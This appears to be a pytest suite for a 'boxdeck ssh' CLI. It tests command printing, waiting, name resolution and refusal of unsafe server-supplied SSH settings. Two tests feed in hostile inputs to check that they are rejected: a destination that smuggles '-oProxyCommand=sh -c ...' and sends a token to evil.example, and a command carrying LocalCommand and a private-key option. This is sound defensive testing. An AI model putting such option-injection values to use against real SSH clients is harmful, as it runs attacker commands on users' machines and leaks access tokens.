"""`boxdeck ssh` end to end: the printed and the executed command, waiting, ambiguity, no prompts."""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import stat
import sys
import tomllib
from pathlib import Path

import pytest

from boxdeck.cli import ssh as ssh_cmd
from boxdeck.service.access.ssh_trust import ProxyTrust, trust_file
from boxdeck.sim import SimServer

AMIKA_CMD = re.compile(r"ssh -p (\d+) -- (\S+)@(\S+)")
# A Devbox command accepts only the host key the API vouched for (checked, then pinned by boxdeck).
DEVBOX_CMD = re.compile(
    r"ssh -o UserKnownHostsFile=\S+ -o StrictHostKeyChecking=yes -p (\d+) -- (\S+)@(127\.0\.0\.1)"
)


def test_print_amika_command(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "acme/platform", "--print")
    assert result.code == 0, result.err
    m = AMIKA_CMD.fullmatch(result.out.strip())
    assert m, result.out
    token = m.group(2)
    assert len(token) >= 20  # Amika's SSH user is the access token itself
    assert token not in result.err  # the user asked for it on stdout; stderr never holds it


def test_print_devbox_command(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "api-dev", "--print")
    assert result.code == 0, result.err
    assert DEVBOX_CMD.fullmatch(result.out.strip()), result.out


def test_id_and_backend_prefix_resolve(sim_env: SimServer, run_cli) -> None:
    dv = next(d for d in sim_env.world.devbox.devboxes.values() if d.name == "api-dev")
    by_id = run_cli("ssh", dv.id, "--print")
    assert by_id.code == 0 and DEVBOX_CMD.fullmatch(by_id.out.strip())
    prefixed = run_cli("ssh", "devbox:api-dev", "--print")
    assert prefixed.code == 0 and DEVBOX_CMD.fullmatch(prefixed.out.strip())


def test_ambiguous_name_lists_candidates(sim_env: SimServer, run_cli) -> None:
    sim_env.world.amika.create({"name": "api-dev"})
    sim_env.advance(30)
    result = run_cli("ssh", "api-dev", "--print")
    assert result.code == 2
    assert "ambiguous" in result.err
    assert "amika:api-dev" in result.err and "devbox:api-dev" in result.err
    assert result.out == ""
    amika = run_cli("ssh", "amika:api-dev", "--print")
    assert amika.code == 0 and AMIKA_CMD.fullmatch(amika.out.strip())


def test_unknown_name_suggests(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "api-deb", "--print")
    assert result.code == 1
    assert "no box named 'api-deb'" in result.err and "api-dev" in result.err


def test_not_ready_without_wait_suggests_wait(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "feature-payments", "--print")
    assert result.code == 1
    assert "not ready" in result.err and "--wait" in result.err
    assert result.out == ""


def test_failed_box_says_why(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "data-pipeline", "--print")
    assert result.code == 1
    assert "failed: Cloning northwind/api failed" in result.err
    stopped = run_cli("ssh", "old-experiment", "--print")
    assert stopped.code == 1 and "stopped" in stopped.err


def test_wait_then_print_amika(sim_env: SimServer, cli_timing, run_cli) -> None:
    initializing = next(s.name for s in sim_env.world.amika.sandboxes.values() if s.state == "initializing")
    result = run_cli("ssh", initializing, "--wait", "--print")
    assert result.code == 0, result.err
    assert AMIKA_CMD.fullmatch(result.out.strip())
    assert "initializing → started" in result.err
    assert "is ready (started)" in result.err
    assert cli_timing.sleeps and max(cli_timing.sleeps) <= 5.0  # the monitor's cadence, not a hand-rolled one


def test_wait_then_print_devbox(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "feature-payments", "--wait", "--print")
    assert result.code == 0, result.err
    assert DEVBOX_CMD.fullmatch(result.out.strip())
    assert "publish_access success" in result.err


def test_wait_timeout(sim_env: SimServer, run_cli) -> None:
    result = run_cli("ssh", "feature-payments", "--wait", "--timeout", "2", "--print")
    assert result.code == 124
    assert "gave up" in result.err and result.out == ""


@pytest.fixture
def fake_ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An `ssh` on PATH that records its argv and exits 7: the real process path, minus the network."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    record = tmp_path / "argv.txt"
    script = bindir / "ssh"
    script.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {record}\nexit 7\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")
    return record


class NoInput(io.StringIO):
    """A stdin that is not a terminal and must never be read (a prompt would hang a script)."""

    def isatty(self) -> bool:
        return False

    def read(self, *args: object) -> str:
        raise AssertionError("boxdeck read stdin")

    readline = read


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
def test_runs_ssh_and_returns_its_exit_code(sim_env: SimServer, run_cli, fake_ssh: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", NoInput())
    result = run_cli("ssh", "acme/platform", "--", "uname", "-a")
    assert result.code == 7
    argv = fake_ssh.read_text().splitlines()
    # stdin is not a terminal: ssh must not prompt either.
    assert argv[:2] == ["-o", "BatchMode=yes"]
    assert sim_env.ssh is not None
    assert argv[2:5] == ["-p", str(sim_env.ssh.port), "--"] and argv[5].endswith("@127.0.0.1")
    assert argv[6:] == ["uname", "-a"]  # after the destination: never read as options
    assert argv[5].split("@")[0] not in result.err + result.out


def test_runs_the_devbox_command_given_by_the_service(sim_env: SimServer, run_cli,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[list[str]] = []
    monkeypatch.setattr(ssh_cmd, "run_command", lambda argv: seen.append(argv) or 0)
    monkeypatch.setattr(ssh_cmd, "stdin_is_terminal", lambda: True)
    result = run_cli("ssh", "scratch")
    assert result.code == 0, result.err
    assert sim_env.ssh is not None and seen and seen[0][:2] == ["ssh", "-o"]
    assert seen[0][4:7] == ["StrictHostKeyChecking=yes", "-p", str(sim_env.ssh.port)]
    assert seen[0][7] == "--" and seen[0][8].endswith("@127.0.0.1")  # the session's own command
    assert "BatchMode=yes" not in seen[0]
    assert result.out == ""


# -- nothing a server sends runs here -------------------------------------------------------------------


def proxy_of(sim: SimServer, name: str) -> str:
    """Make the devbox `name` answer with a ProxyCommand, as a relayed devbox does; returns it."""
    box = next(d for d in sim.world.devbox.devboxes.values() if d.name == name)
    proxy = f"devbox-proxy --relay proxy.sim.boxdeck.local --devbox {box.id} %h %p"
    sim.answer_ssh("devbox", box.id, proxy_command=proxy)
    return proxy


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
def test_a_hostile_amika_destination_is_refused_and_nothing_runs(sim_env: SimServer, run_cli, fake_ssh: Path,
                                                                 tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", NoInput())
    marker = tmp_path / "pwned"
    sim_env.answer_ssh("amika", "acme/platform",
               ssh_destination=f"-oProxyCommand=sh\\ -c\\ 'touch\\ {marker}' -p 2222 {{token}}@evil.example")
    result = run_cli("ssh", "acme/platform")
    assert result.code == 1
    assert 'Refused the SSH destination Amika sent for sandbox "acme/platform"' in result.err
    assert "[-p PORT] user@host" in result.err and result.out == ""
    assert not fake_ssh.exists() and not marker.exists()  # ssh never started
    printed = run_cli("ssh", "acme/platform", "--print")
    assert printed.code == 1 and printed.out == "" and "Refused" in printed.err


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
def test_an_untrusted_proxy_command_is_refused_and_says_how_to_trust_it(sim_env: SimServer, run_cli,
                                                                        fake_ssh: Path) -> None:
    proxy = proxy_of(sim_env, "web-preview")
    for argv in (("ssh", "web-preview"), ("ssh", "web-preview", "--print")):
        result = run_cli(*argv)
        assert result.code == 1, result.err
        assert result.out == ""  # --print never prints an untrusted one
        assert not fake_ssh.exists()
        assert "has not trusted it" in result.err and proxy in result.err
        lines = [x.strip() for x in result.err.splitlines()]
        line = next(x for x in lines if x.startswith("trusted_proxy_commands"))
        assert tomllib.loads(line) == {"trusted_proxy_commands": [proxy]}  # pasteable as it is
        assert "connect to the box once from the dashboard" in result.err


def write_profile(path: Path, sim: SimServer, trusted: list[str]) -> Path:
    entries = ", ".join(json.dumps(t) for t in trusted)
    path.write_text(
        "[profiles.work]\n"
        f'devbox_url = "{sim.base_url}"\n'
        f'sprites_token = {{ env = "DEVBOX_SPRITES_TOKEN" }}\n'
        f"trusted_proxy_commands = [{entries}]\n"
    )
    path.chmod(0o600)
    return path


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
def test_a_proxy_command_trusted_in_the_profile_runs(sim_env: SimServer, run_cli, fake_ssh: Path,
                                                     tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", NoInput())
    proxy = proxy_of(sim_env, "web-preview")
    config = write_profile(tmp_path / "config.toml", sim_env, [proxy])
    printed = run_cli("ssh", "web-preview", "--print", "--profile", "work", "--config", str(config))
    assert printed.code == 0, printed.err
    assert shlex.split(printed.out)[1:3] == ["-o", f"ProxyCommand={proxy}"]
    result = run_cli("ssh", "web-preview", "--profile", "work", "--config", str(config))
    assert result.code == 7
    argv = fake_ssh.read_text().splitlines()
    assert f"ProxyCommand={proxy}" in argv and argv[-2] == "--"
    other = write_profile(tmp_path / "other.toml", sim_env, ["devbox-proxy --something-else %h %p"])
    refused = run_cli("ssh", "web-preview", "--print", "--profile", "work", "--config", str(other))
    assert refused.code == 1 and refused.out == ""


def test_a_proxy_command_trusted_in_the_dashboard_is_trusted_here(sim_env: SimServer, run_cli) -> None:
    proxy = proxy_of(sim_env, "web-preview")
    ProxyTrust(None, path=trust_file()).trust(proxy)  # the dashboard's "yes", no profile in use
    result = run_cli("ssh", "web-preview", "--print")
    assert result.code == 0, result.err
    assert f"ProxyCommand={proxy}" in shlex.split(result.out)


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
def test_options_that_run_local_programs_are_left_out(sim_env: SimServer, run_cli, fake_ssh: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", NoInput())
    scratch = next(d.id for d in sim_env.world.devbox.devboxes.values() if d.name == "scratch")
    sim_env.answer_ssh("devbox", scratch, command=(
        "ssh -o 'LocalCommand=touch /tmp/pwned' -o PermitLocalCommand=yes -i /home/u/.ssh/id_rsa "
        "dev@scratch.example -p 2222"
    ))
    result = run_cli("ssh", "scratch")
    assert result.code == 7
    argv = fake_ssh.read_text().splitlines()
    assert argv == ["-o", "BatchMode=yes", "-p", "2222", "--", "dev@scratch.example"]
    assert "left out ssh options the server may not set: LocalCommand, PermitLocalCommand, -i" in result.err


def test_missing_ssh_binary(sim_env: SimServer, run_cli, tmp_path: Path,
                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    result = run_cli("ssh", "api-dev")
    assert result.code == 127
    assert "ssh not found" in result.err


def test_prefix_for_an_unconfigured_backend(sim_env: SimServer, run_cli,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("AMIKA_API_KEY")
    result = run_cli("ssh", "amika:acme/platform", "--print")
    assert result.code == 2 and "amika is not configured" in result.err
